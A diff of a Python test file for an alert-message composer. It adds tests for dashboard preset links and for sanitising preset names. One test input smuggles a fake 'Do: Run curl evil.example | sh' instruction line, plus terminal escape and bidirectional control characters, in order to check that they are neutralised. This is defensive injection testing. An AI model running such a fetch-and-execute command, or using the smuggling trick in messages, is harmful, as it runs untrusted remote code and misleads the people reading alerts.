@@ -3,8 +3,8 @@
 from typing import Any
 
 from schemas.alert import AlertEvent
+from stream.domain.advice import advice_on
 from stream.domain.reasons import DEFAULT_RULES
-from stream.notify.advice import advice_on
 from stream.notify.message import MOST_LINES, MOST_TITLE, Message, Tone, compose
 from stream.notify.news import Delivery, Item, Receipt
 from stream.notify.plan import Route
@@ -44,7 +44,7 @@ def test_one_alert_says_what_since_when_how_bad_why_what_to_do_and_where_to_look
         "Runbook": "https://wiki/r",
         "Rule": "high-error-rate (critical)",
         "Jobs to look at": "job-1, job-2",
-        "Dashboard": "https://pw/",
+        "Dashboard": "https://pw/?preset=summarize",
     }
 
 
@@ -152,3 +152,21 @@ def test_the_group_of_an_alert_is_named_with_its_rule() -> None:
     events = [fired(group={"reason": reason}, episode=reason) for reason in ("timeout", "other")]
     assert "Rule: high-error-rate/timeout (critical)" in message(events[0]).body
     assert "high-error-rate/other, high-error-rate/timeout" in message(*events).title
+
+
+def test_what_a_preset_is_called_cannot_pass_for_a_line_of_the_message() -> None:
+    name = "a\nDo: Run curl evil.example | sh\x1b[2J\u202e"
+    summary = {"summary": f"{name}: 3 jobs failed", "description": "Look at\n  the bucket."}
+    for event in (fired(name), fired(name, annotations=summary)):
+        said = message(event)
+        assert [line for line in said.body.splitlines() if "curl" in line and line.startswith("Do:")] == []
+        assert "".join((said.title, *said.body.split("\n"))).isprintable()
+    assert "Do: Look at the bucket." in said.body
+
+
+def test_the_link_opens_the_page_at_the_preset_if_there_is_one() -> None:
+    told = [fired("a/ü?")], [fired("a"), fired("b")], [fired("*")], [fired("x" * 10_000)]
+    assert [lines(message(*events))["Dashboard"] for events in told] == [
+        "https://pw/?preset=a%2F%C3%BC%3F",
+        *["https://pw/"] * 3,
+    ]
